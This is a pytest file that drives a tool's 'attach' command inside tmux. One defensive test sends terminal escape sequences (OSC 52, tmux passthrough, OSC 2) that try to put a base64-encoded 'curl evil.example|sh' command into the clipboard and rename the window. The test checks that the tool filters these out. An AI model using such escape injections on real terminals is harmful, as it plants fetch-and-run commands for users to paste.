"""`clauderon attach`: the real CLI in a real terminal (tmux) on a local pty session, and its query filter."""

from __future__ import annotations

import shlex
import subprocess
import sys
import time
import uuid
from pathlib import Path

import pytest

from clauderon_tui.attach import prefix_byte
from runtime.errors import ClauderonError
from tests.cli_harness import Cli

pytestmark = pytest.mark.timeout(180)


def test_prefix_byte() -> None:
    assert prefix_byte("ctrl+]") == b"\x1d"
    assert prefix_byte("ctrl+a") == b"\x01"
    with pytest.raises(ClauderonError):
        prefix_byte("f5")


def _tmux(sock: str, *args: str) -> str:
    return subprocess.run(["tmux", "-L", sock, *args], check=True, capture_output=True, text=True, timeout=30).stdout


def _wait_pane(sock: str, needle: str, timeout: float = 30) -> str:
    deadline = time.monotonic() + timeout
    text = ""
    while time.monotonic() < deadline:
        text = _tmux(sock, "capture-pane", "-p", "-t", "a")
        if needle in text:
            return text
        time.sleep(0.2)
    raise AssertionError(f"{needle!r} not in pane:\n{text}")


def test_attach_types_sees_output_and_detaches(short_tmp: Path, git_repo: Path) -> None:
    cli = Cli(short_tmp / "home", image="unused")
    (cli.home / "config.toml").write_text('[session]\nbackend = "local"\n[engine]\non_exit = "stop"\n')
    sock = f"cl-attach-{uuid.uuid4().hex[:8]}"
    try:
        cli("create", "--repo", str(git_repo), "--name", "att", "--backend", "local")
        command = " ".join(shlex.quote(p) for p in [sys.executable, "-m", "clauderon_tui.cli", "attach", "att"])
        env = f"CLAUDERON_HOME={shlex.quote(str(cli.home))} TERM=xterm-256color"
        _tmux(sock, "new-session", "-d", "-s", "a", "-x", "100", "-y", "30",
              f"env {env} {command} 2>{short_tmp}/attach.err; sleep 30")
        _wait_pane(sock, "worktrees/att")  # the snapshot shows the current screen at once
        _tmux(sock, "send-keys", "-t", "a", "-l", "echo attached-$((20+1))")
        _tmux(sock, "send-keys", "-t", "a", "Enter")
        _wait_pane(sock, "attached-21")
        # the engine answers this query; a second answer from tmux would be typed into the shell
        _tmux(sock, "send-keys", "-t", "a", "-l", r"printf '\033[6n'; sleep 0.5; echo; echo query-done")
        _tmux(sock, "send-keys", "-t", "a", "Enter")
        pane = _wait_pane(sock, "query-done")
        # one answer (the engine's) reached the shell; a second (the outer terminal's) would show as text
        assert "R" not in pane.split("query-done")[-2].split("echo query-done")[-1]
        _tmux(sock, "send-keys", "-t", "a", "C-]", "d")
        _wait_pane(sock, "[detached from att]")
        assert "running" in cli("list").out  # detaching leaves the session running
    finally:
        subprocess.run(["tmux", "-L", sock, "kill-server"], capture_output=True)
        cli("delete", "att", "--force", check=False)
        cli.cleanup()


def test_an_agent_cannot_write_the_clipboard_or_rename_the_window_through_attach(short_tmp: Path,
                                                                                    git_repo: Path) -> None:
    """tmux with `set-clipboard on` turns OSC 52 into a paste buffer (as iTerm2, kitty and WezTerm write the
    system clipboard), and with titles allowed OSC 2 renames the pane: the filter must stop both."""
    cli = Cli(short_tmp / "home", image="unused")
    (cli.home / "config.toml").write_text('[session]\nbackend = "local"\n[engine]\non_exit = "stop"\n')
    sock = f"cl-attach-{uuid.uuid4().hex[:8]}"
    try:
        cli("create", "--repo", str(git_repo), "--name", "esc", "--backend", "local")
        command = " ".join(shlex.quote(p) for p in [sys.executable, "-m", "clauderon_tui.cli", "attach", "esc"])
        env = f"CLAUDERON_HOME={shlex.quote(str(cli.home))} TERM=xterm-256color"
        _tmux(sock, "new-session", "-d", "-s", "a", "-x", "100", "-y", "30", f"env {env} {command}; sleep 30")
        _tmux(sock, "set", "-g", "set-clipboard", "on")
        _tmux(sock, "set", "-g", "allow-rename", "on")
        _tmux(sock, "set", "-g", "allow-passthrough", "on")
        _wait_pane(sock, "worktrees/esc")
        payload = "Y3VybCBldmlsLmV4YW1wbGV8c2g="  # base64 of `curl evil.example|sh`
        script = (rf"printf '\033]52;c;{payload}\007'; printf '\033]2;pwned-title\007'; "
                  rf"printf '\033Ptmux;\033\033]52;c;{payload}\007\033\\'; echo escapes-sent")
        _tmux(sock, "send-keys", "-t", "a", "-l", script)
        _tmux(sock, "send-keys", "-t", "a", "Enter")
        _wait_pane(sock, "escapes-sent")
        time.sleep(0.5)  # let tmux act on anything that did come through
        buffers = subprocess.run(["tmux", "-L", sock, "list-buffers", "-F", "#{buffer_sample}"],
                                 capture_output=True, text=True).stdout
        assert "curl" not in buffers, buffers
        title = _tmux(sock, "display-message", "-p", "-t", "a", "#{pane_title}").strip()
        assert title != "pwned-title", title  # at most the prefixed, sanitized `clauderon: pwned-title`
    finally:
        subprocess.run(["tmux", "-L", sock, "kill-server"], capture_output=True)
        cli("delete", "esc", "--force", check=False)
        cli.cleanup()
